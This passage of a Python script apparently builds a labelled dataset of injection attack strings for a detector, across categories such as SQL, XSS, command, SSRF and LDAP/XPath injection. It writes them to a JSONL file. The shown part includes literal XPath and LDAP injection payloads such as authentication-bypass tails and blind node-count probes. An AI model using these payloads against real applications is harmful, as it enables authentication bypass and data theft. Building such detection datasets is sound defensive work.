    ("xml_request_xpath-or_true+xml_entity", "MSKU9070323&apos; or &apos;1&apos;=&apos;1"),
    ("plain-ldap_true_filter", "admin)(&)"),
    ("plain-xpath_or", "' or 1=1 or ''='"),
]

XPATH_CONTAINERS = ["TGHU8732140", "MSCU1234566", "HLXU3456784", "CMAU4561236", "TCNU5550129",
                    "OOLU1845205", "SEGU6221902", "TRHU7710451"]
XPATH_TAILS = [("or_true", "' or '1'='1"),
               ("or_true_double", "\" or \"1\"=\"1"),
               ("union_nodes", "'] | //user/* | //container['"),
               ("blind_node_count", "' and count(/*/*)>3 and '1'='1")]


def t_ldap_xpath(rng):
    cntr = rng.choice(XPATH_CONTAINERS)
    tech, tail = rng.choice(XPATH_TAILS)
    return "manifest_xpath-" + tech, cntr + tail


# ---------------------------------------------------------------------------

CATEGORIES = [
    ("sqli", SQLI, t_sqli, 8),
    ("xss", XSS, t_xss, 8),
    ("cmdi", CMDI, t_cmdi, 8),
    ("traversal", TRAVERSAL, t_traversal, 3),
    ("ssrf", SSRF, t_ssrf, 5),
    ("code", CODE, t_code, 6),
    ("nosqli", NOSQLI, t_nosqli, 4),
    ("crlf", CRLF, t_crlf, 4),
    ("ldap-xpath", LDAP_XPATH, t_ldap_xpath, 4),
]


def build():
    rng = random.Random(SEED)
    rows = []
    seen = set()
    stats = []
    for category, literals, template, n_template in CATEGORIES:
        block = []
        for cls, value in literals:
            if value in seen:
                raise SystemExit("duplicate literal in %s: %r" % (category, value))
            seen.add(value)
            block.append((cls, value))
        n_lit = len(block)
        made = 0
        attempts = 0
        while made < n_template:
            attempts += 1
            if attempts > 10000:
                raise SystemExit("%s: template cannot produce enough unique values" % category)
            cls, value = template(rng)
            if value in seen:
                continue
            seen.add(value)
            block.append((cls, value))
            made += 1
        stats.append((category, len(block), n_lit))
        for cls, value in block:
            rows.append((category, cls, value))
    return rows, stats


def main():
    rows, stats = build()
    out = []
    for i, (category, cls, value) in enumerate(rows, 1):
        assert isinstance(value, str) and value.strip() and len(value) <= 1800, (i, value)
        assert "-" in cls, cls
        out.append({"id": "%s-%05d" % (PREFIX, i), "category": category, "class": cls,
                    "label": "attack", "value": value})
    assert len({o["value"] for o in out}) == len(out)
    benign_path = Path(__file__).with_name("benign.jsonl")
    if benign_path.exists():
        with open(benign_path, encoding="utf-8") as fh:
            benign = {json.loads(line)["value"] for line in fh if line.strip()}
        clash = [o["id"] for o in out if o["value"] in benign]
        if clash:
            raise SystemExit("values also in benign.jsonl: %s" % clash)
    path = Path(__file__).with_name("attacks.jsonl")
    with open(path, "w", encoding="utf-8", newline="\n") as fh:
        for o in out:
            fh.write(json.dumps(o, ensure_ascii=False) + "\n")
    total_lit = 0
    for category, n, n_lit in stats:
        total_lit += n_lit
        print("%-11s %3d  literals %3d (%.0f%%)" % (category, n, n_lit, 100.0 * n_lit / n))
    n_plain = sum(1 for o in out if o["class"].startswith("plain-"))
    n_enc = sum(1 for o in out if "+" in o["class"])
    print("total %d values, %d literals (%.1f%%), plain %d, encoded %d -> %s" % (
        len(out), total_lit, 100.0 * total_lit / len(out), n_plain, n_enc, path.name))


if __name__ == "__main__":
    main()
